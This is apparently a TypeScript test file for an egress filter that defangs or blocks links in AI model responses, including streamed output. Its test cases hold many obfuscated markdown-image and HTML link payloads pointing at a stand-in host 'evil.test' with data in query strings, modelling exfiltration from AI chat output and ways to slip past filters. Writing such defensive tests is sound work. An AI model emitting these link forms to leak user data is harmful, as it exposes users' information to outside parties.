import { createHooks, textOf, type Message, type ModelResponse } from '@interpose/core';
import { tryPolicy } from '@interpose/testing';
import { policyMatchers } from '@interpose/testing/matchers';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';

import { made, user } from '../../../test/redaction-talk.ts';
import type { Detector } from '../../shared/redaction/redactor/detector.ts';
import { defangLinks, type LinkTest } from './defang-links.ts';
import { guardEgress, type EgressOptions } from '../index.ts';
import { linkPendingFrom } from './link-pending.ts';

expect.extend(policyMatchers);

const options: EgressOptions = { allow: ['example.com', '*.example.org'], links: 'defang' };

function answer(text: string): { readonly response: ModelResponse } {
  return { response: { content: [{ type: 'text', text }] } };
}

function tried(text: string, more: Partial<EgressOptions> = {}) {
  return tryPolicy(guardEgress({ ...options, ...more }), 'onResponse', answer(text));
}

test.each([
  ['![x](https://evil.test/?d=1)', '![x](hxxps://evil[.]test/?d=1)'],
  ['[a](http://a.evil.test:80/b)', '[a](hxxp://a[.]evil[.]test:80/b)'],
  ['see https://evil.test.', 'see hxxps://evil[.]test.'],
  ['![](//evil.test/x)', '![](//evil[.]test/x)'],
  ['![](https:\\\\evil.test/x)', '![](hxxps:\\\\evil[.]test/x)'],
  ['![](https:evil.test/x)', '![](hxxps:evil[.]test/x)'],
  ['<img src="//evil.test/x">', '<img src="//evil[.]test/x">'],
  ['<img src=https://evil.test/x>', '<img src=hxxps://evil[.]test/x>'],
  ['[1]: https://evil.test/x', '[1]: hxxps://evil[.]test/x'],
  ['[1]: //evil.test/x', '[1]: //evil[.]test/x'],
  ['![](https&colon;//evil.test/x)', '![](hxxps://evil[.]test/x)'],
  ['![](&#104;ttps://evil.test/x)', '![](hxxps://evil[.]test/x)'],
  ['![](https:\\/\\/evil.test/x)', '![](hxxps:\\/\\/evil[.]test/x)'],
  ['![](https://evil\\.test/x)', '![](hxxps://evil[.]test/x)'],
  ['![](HTTPS://EVIL.test/)', '![](HxxPS://EVIL[.]test/)'],
  ['https://example.com@evil.test/', 'hxxps://example[.]com@evil[.]test/'],
  ['https://example.com.evil.test/', 'hxxps://example[.]com[.]evil[.]test/'],
  ['![](//evil。test/x)', '![](//evil[.]test/x)'],
  ['![](//evil%2etest/x)', '![](//evil[.]test/x)'],
  ['![](//134744072/x)', '![](//[.]134744072/x)'],
  ['![](//[2606:4700::1111]/x)', '![](//[.][2606:4700::1111]/x)'],
  ['[a](wss://134744072/x)', '[a](wss://[.]134744072/x)'],
  ['![](https://[.@evil.test/x)', '![](hxxps://[[.]@evil[.]test/x)'],
  ['![](https://example.com|@evil.test/)', '![](hxxps://example[.]com|@evil[.]test/)'],
  ['![](https://example.com\u00A0@evil.test)', '![](hxxps://example[.]com\u00A0@evil[.]test)'],
  ['![](<https://example.com @evil.test/>)', '![](<hxxps://example[.]com @evil[.]test/>)'],
  ['<img src="https://example.com @evil.test">', '<img src="hxxps://example[.]com @evil[.]test">'],
  ['![](https://example.com&#32;@evil.test)', '![](hxxps://example[.]com%20@evil[.]test)'],
  ['![](https://example.com\uFEFF.evil.test/)', '![](hxxps://example[.]com\uFEFF[.]evil[.]test/)'],
  ['![](//evil&percnt;2etest/x)', '![](//evil[.]test/x)'],
  ['<img src="https:\n//evil.test/x">', '<img src="hxxps:\n//evil[.]test/x">'],
  ['<img src="h\nttps://evil.test/x">', '<img src="h\nxxps://evil[.]test/x">'],
  [
    '<img src="https://example.com\n.evil.test">',
    '<img src="hxxps://example[.]com\n[.]evil[.]test">',
  ],
  ['![](  //evil.test/x)', '![](  //evil[.]test/x)'],
  ['<img src="  //evil.test/x">', '<img src="  //evil[.]test/x">'],
  ['<img srcset="a.png 1x, //evil.test/x 2x">', '<img srcset="a.png 1x, //evil[.]test/x 2x">'],
  ['![](https://////////evil.test)', '![](hxxps://////////evil[.]test)'],
  ['see www.evil.test/?d=1', 'see www[.]evil[.]test/?d=1'],
  ['[https://evil.test](https://evil.test)', '[hxxps://evil[.]test](hxxps://evil[.]test)'],
])('%s is made unreadable', async (text, safe) => {
  const trial = await tried(text);
  // A backslash inside a pair of slashes may be resolved or stay; a browser follows neither form.
  expect(textOf(trial.value).replaceAll('\\/', '/')).toBe(safe.replaceAll('\\/', '/'));
  expect(await tried(textOf(trial.value))).toAllow();
  expect(await tried(text, { links: 'deny' })).toDeny({ code: 'egress_link' });
});

test.each([
  'https://example.com/a, (https://a.example.org/b) and [c](https://example.com).',
  'http://localhost:3000/ is where it runs',
  'http://127.0.0.1:8000, http://192.168.1.10/ and http://[::1]:8080/ too',
  '“https://example.com”, https://example.com，谢谢',
  'https://example.com,https://a.example.org/x and https://example.com&amp;x=1',
  '{"url":"https://example.com","mail":"ann@mail.example"}',
  'https://example.com or ann@mail.example',
  "page.locator('//*[@id=1]'), xpath(\"//div[@class='a.b']\")",
  'a // comment, and //console.log("x")',
  'AT&T, R&amp;D, C:\\Users\\me, 12:30',
  'The ratio is 3://4',
])('%s stays as it is', async (text) => {
  expect(await tried(text)).toAllow();
});

test('a user name too long to be read hides no host', async () => {
  const long = `![](https://${'a'.repeat(5000)}@evil.test/)`;
  expect(await tried(long, { links: 'deny' })).toDeny({ code: 'egress_link' });
});

test('a result of a tool that becomes the answer is read too', async () => {
  const message: Message = {
    role: 'assistant',
    content: [{ type: 'text', text: '![](https://evil.test/x)' }],
  };
  const trial = await tryPolicy(guardEgress(options), 'onAgentResponse', { message });
  expect(textOf(trial.value)).toBe('![](hxxps://evil[.]test/x)');
});

test('a link that redaction puts back is read too', async () => {
  const addresses: Detector = {
    types: ['ADDRESS'],
    find: (text) =>
      Array.from(text.matchAll(/https:\/\/[a-z.]+/g), ({ index, 0: { length } }) => ({
        start: index,
        end: index + length,
        type: 'ADDRESS',
      })),
  };
  const hooks = createHooks({ policies: [made({ detectors: [addresses] }), guardEgress(options)] });
  const session = { session: { id: 'a' } };
  const message = user('https://evil.test');
  const read = await hooks.dispatch('onUserMessage', { message }, session);
  expect(read).toMatchObject({ value: user('<ADDRESS_1>') });
  const payload = { ...answer('![](<ADDRESS_1>/?d=1)'), request: { messages: [] } };
  const said = await hooks.dispatch('onResponse', { ...payload, synthetic: false }, session);
  expect(said).toMatchObject({ value: answer('![](hxxps://evil[.]test/?d=1)').response });
});

describe('in a stream', () => {
  test('a link in pieces is held until its host is known, and made unreadable', () => {
    const mayStay = (): boolean => false;
    const text = 'Hello ![x](https://evil.test/?d=1) and //a b https&colon;//evil.test/ end';
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: 12 }), { maxLength: 60 }), (sizes) => {
        let rest = text;
        let held = '';
        let left = '';
        for (const size of sizes) {
          held = passed(held + rest.slice(0, size), false);
          rest = rest.slice(size);
          const whole = linkPendingFrom(held);
          left += held.slice(0, whole);
          held = held.slice(whole);
        }
        expect(left + passed(held + rest, true)).toBe(defangLinks(text, mayStay));
      }),
    );

    function passed(pending: string, last: boolean): string {
      const whole = last ? pending.length : linkPendingFrom(pending);
      return defangLinks(pending.slice(0, whole), mayStay) + pending.slice(whole);
    }
  });

  test.each([
    '![](//evil。test/x)',
    '![](  //evil.test/x)',
    '<img src="h\nttps://example.com x@evil.test/x">',
    '![](<https://example.com x@evil.test/>)',
    '![](https://example.com|x@evil.test/)',
    '![](//example.com\uFEFF.evil.test/)',
    '<img srcset="a.png 1x, //evil.test/x 2x">',
    'www.evil.test/x',
  ])('%s is made unreadable wherever the stream is cut', (link) => {
    const text = `Hello ${link} and more`;
    const mayStay = (authority: string): boolean => authority === 'example.com';
    const safe = defangLinks(text, mayStay);
    expect(safe).not.toBe(text);
    for (let first = 1; first < text.length; first++)
      for (let size = 1; size < 4; size++) expect(streamed(text, first, size, mayStay)).toBe(safe);
  });

  test('words that cannot be links are not held', () => {
    expect(linkPendingFrom('Hello there, ')).toBe(13);
    expect(linkPendingFrom('这是一个很长的句子')).toBe(9);
  });
});

test('links need a list of hosts', () => {
  expect(() => guardEgress({ links: 'defang' })).toThrow('[invalid_option]');
  expect(() => guardEgress({ allow: [], links: 'hide' as never })).toThrow('[invalid_option]');
});

/** Returns the text that leaves a stream whose first piece has length `first` and all others length `size`. */
function streamed(text: string, first: number, size: number, mayStay: LinkTest): string {
  let left = '';
  let held = '';
  for (let at = 0; at < text.length;) {
    const piece = text.slice(at, at === 0 ? first : at + size);
    at += piece.length;
    held += piece;
    const whole = at === text.length ? held.length : linkPendingFrom(held);
    left += defangLinks(held.slice(0, whole), mayStay, left);
    held = held.slice(whole);
  }
  return left;
}
